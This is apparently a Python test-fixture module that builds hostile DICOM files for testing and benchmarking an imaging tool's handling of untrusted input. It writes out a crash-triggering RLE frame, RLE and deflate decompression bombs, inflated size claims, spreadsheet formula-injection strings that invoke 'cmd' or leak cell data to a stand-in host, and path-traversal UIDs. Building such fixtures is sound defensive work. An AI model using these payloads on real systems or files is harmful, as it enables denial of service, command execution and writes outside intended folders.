"""Hostile DICOM files for tests and benchmarks: a frame that makes pylibjpeg-rle panic, decompression bombs.

Every builder writes a small file and returns its path; none holds the claimed (inflated) size in memory.

- :func:`panic_rle`: 16 x 16, 16 bits, RLE: two segments, the first with one extra replicate run
  (pylibjpeg-rle indexes past its output and panics with a ``BaseException``); :func:`good_rle` the same
  without the extra run.
- :func:`write_rle`: any RLE frame under any claimed size (an RLE bomb: ``rows=cols=16384``).
- :func:`pixel_claim`: uncompressed pixel data of a few bytes under a claim such as 65535 x 65535.
- :func:`write_deflate_bomb`: a deflated data set whose pixel data inflates to ``inflated_mb`` MB.
- :func:`patch_j2k_size`: a copy of a JPEG 2000 DICOM whose SIZ marker claims another size.
- :func:`rle_bomb`: a few hundred bytes of RLE claiming 16384 x 16384 pixels.
- :func:`hostile_text`: a copy of a good DICOM whose patient and study text are spreadsheet formulas
  and whose UIDs are path traversals (``../../..``), pixels untouched.
- :func:`hostile_folder`: every hostile file above in one folder (the CLI's end-to-end test and
  ``benchmarks/bench_untrusted.py``).
"""

from __future__ import annotations

import shutil
import struct
import warnings
import zlib
from pathlib import Path

from pydicom import dcmread
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.filewriter import write_file_meta_info
from pydicom.uid import UID, DeflatedExplicitVRLittleEndian, ExplicitVRLittleEndian, RLELossless, generate_uid

__all__ = ["mg_dataset", "rle_frame", "write_rle", "panic_rle", "good_rle", "pixel_claim", "write_deflate_bomb",
           "patch_j2k_size", "rle_bomb", "hostile_text", "hostile_folder", "FORMULAS", "TRAVERSAL"]

#: Text a spreadsheet would run (OWASP's examples), one per hostile text field.
FORMULAS = {
    "PatientID": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "PatientName": "@SUM(1+1)*cmd|' /C calc'!A0",
    "StudyDescription": "+1+cmd|' /C calc'!A0",
    "SeriesDescription": "-2+3",
}
#: A "UID" that walks out of any folder it is joined to.
TRAVERSAL = "../../../../escaped"

MG = UID("1.2.840.10008.5.1.4.1.1.1.2")  # Digital Mammography X-Ray Image Storage - For Presentation


def mg_dataset(rows: int, cols: int, bits: int, syntax: str) -> Dataset:
    """A minimal MG header (no pixel data) of the given size and transfer syntax."""
    ds = Dataset()
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = UID(syntax)
    ds.file_meta.MediaStorageSOPClassUID = MG
    ds.file_meta.MediaStorageSOPInstanceUID = generate_uid()
    ds.SOPClassUID, ds.SOPInstanceUID = MG, ds.file_meta.MediaStorageSOPInstanceUID
    ds.StudyInstanceUID, ds.SeriesInstanceUID = generate_uid(), generate_uid()
    ds.Modality, ds.PatientID, ds.PatientName = "MG", "HOSTILE", "Hostile^File"
    ds.Rows, ds.Columns = rows, cols
    ds.BitsAllocated, ds.BitsStored, ds.HighBit = bits, bits, bits - 1
    ds.PixelRepresentation, ds.SamplesPerPixel, ds.PhotometricInterpretation = 0, 1, "MONOCHROME2"
    return ds


def rle_frame(segments: list[bytes]) -> bytes:
    """An RLE frame: the 64-byte header (segment count, offsets) and the PackBits segments."""
    offsets, at = [], 64
    for seg in segments:
        offsets.append(at)
        at += len(seg)
    frame = struct.pack("<16L", len(segments), *offsets, *([0] * (15 - len(segments)))) + b"".join(segments)
    return frame + b"\x00" * (len(frame) % 2)


def write_rle(path: Path, rows: int, cols: int, bits: int, frame: bytes) -> Path:
    ds = mg_dataset(rows, cols, bits, RLELossless)
    ds.PixelData = encapsulate([frame])
    ds["PixelData"].VR = "OB"
    ds.save_as(path, enforce_file_format=True)
    return path


def panic_rle(path: Path) -> Path:
    """16 x 16, 16 bits: two segments of 256 bytes each, the first with one extra replicate run
    (pylibjpeg-rle indexes past its output and panics)."""
    run = b"\x81\x00"  # replicate the next byte 128 times
    return write_rle(path, 16, 16, 16, rle_frame([run * 3, run * 2]))


def good_rle(path: Path) -> Path:
    run = b"\x81\x00"
    return write_rle(path, 16, 16, 16, rle_frame([run * 2, run * 2]))


def write_deflate_bomb(path: Path, inflated_mb: int) -> Path:
    """A deflated data set whose OW pixel data of zeros inflates to ``inflated_mb`` MB (a few hundred kB stored).

    Written by streaming zeros through zlib, so the test never holds the inflated bytes.
    """
    ds = mg_dataset(1, 1, 16, DeflatedExplicitVRLittleEndian)
    body = inflated_mb << 20
    rows = 8192
    while body // (2 * rows) > 0xFFFF:  # Rows and Columns are US
        rows *= 2
    cols = body // (2 * rows)
    header = b"".join([
        struct.pack("<HH2sH", 0x0008, 0x0060, b"CS", 2) + b"MG",
        struct.pack("<HH2sHH", 0x0028, 0x0002, b"US", 2, 1),
        struct.pack("<HH2sH", 0x0028, 0x0004, b"CS", 12) + b"MONOCHROME2 ",
        struct.pack("<HH2sHH", 0x0028, 0x0010, b"US", 2, rows),
        struct.pack("<HH2sHH", 0x0028, 0x0011, b"US", 2, cols),
        struct.pack("<HH2sHH", 0x0028, 0x0100, b"US", 2, 16),
        struct.pack("<HH2sHH", 0x0028, 0x0101, b"US", 2, 16),
        struct.pack("<HH2sHH", 0x0028, 0x0102, b"US", 2, 15),
        struct.pack("<HH2sHH", 0x0028, 0x0103, b"US", 2, 0),
        struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OW", 0, rows * cols * 2),
    ])
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(1 << 20)
    with open(path, "wb") as f:
        f.write(b"\x00" * 128 + b"DICM")
        write_file_meta_info(f, ds.file_meta)  # type: ignore[arg-type]
        f.write(squeeze.compress(header))
        left = rows * cols * 2
        while left:
            step = min(left, len(zeros))
            f.write(squeeze.compress(zeros[:step]))
            left -= step
        f.write(squeeze.flush())
    return path


def pixel_claim(path: Path, rows: int, cols: int, stored_bytes: int = 512) -> Path:
    """Uncompressed 16-bit pixel data of ``stored_bytes`` bytes under a claim of ``rows`` x ``cols``."""
    ds = mg_dataset(rows, cols, 16, ExplicitVRLittleEndian)
    ds.PixelData = bytes(stored_bytes)
    ds["PixelData"].VR = "OW"
    ds.save_as(path, enforce_file_format=True)
    return path


def patch_j2k_size(source: Path, out: Path, rows: int, cols: int) -> Path:
    """A copy of the JPEG 2000 DICOM ``source`` whose first SIZ marker claims ``rows`` x ``cols``."""
    data = bytearray(source.read_bytes())
    at = data.find(b"\xff\x4f\xff\x51")
    if at < 0:
        raise ValueError(f"{source}: no JPEG 2000 SIZ marker")
    xo, yo = struct.unpack(">II", data[at + 16 : at + 24])
    data[at + 8 : at + 16] = struct.pack(">II", cols + xo, rows + yo)
    out.write_bytes(bytes(data))
    return out


def rle_bomb(path: Path, rows: int = 16384, cols: int = 16384) -> Path:
    """A small RLE frame under a claim of ``rows`` x ``cols`` 16-bit pixels (3.8 GB once decoded at 16384^2)."""
    run = b"\x81\x00"
    return write_rle(path, rows, cols, 16, rle_frame([run * 64, run * 64]))


def hostile_text(template: Path, path: Path) -> Path:
    """A copy of the good DICOM ``template`` with formulas in its text (:data:`FORMULAS`) and path
    traversals as its SOP, study and series instance UIDs (pydicom's warnings about them are silenced:
    the point is a file that breaks the rules)."""
    shutil.copyfile(template, path)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ds = dcmread(path)
        for keyword, text in FORMULAS.items():
            setattr(ds, keyword, text)
        ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = UID(TRAVERSAL + "/sop")
        ds.StudyInstanceUID = UID("=1+2/" + TRAVERSAL)
        ds.SeriesInstanceUID = UID(TRAVERSAL + "/series")
        ds.save_as(path)
    return path


def hostile_folder(folder: Path, template: Path, deflate_mb: int = 96) -> dict[str, Path]:
    """Every kind of hostile file in ``folder`` (name -> path): a panicking RLE frame, an RLE bomb, a
    deflate bomb of ``deflate_mb`` MB inflated, a 65535 x 65535 claim, formulas and path traversals in
    the text and UIDs of a copy of the good ``template``. All but the last are bad files."""
    folder.mkdir(parents=True, exist_ok=True)
    return {
        "panic": panic_rle(folder / "panic-rle.dcm"),
        "rle_bomb": rle_bomb(folder / "rle-bomb.dcm"),
        "deflate_bomb": write_deflate_bomb(folder / "deflate-bomb.dcm", deflate_mb),
        "claim": pixel_claim(folder / "claim-65535.dcm", 65535, 65535),
        "formulas": hostile_text(template, folder / "formulas.dcm"),
    }
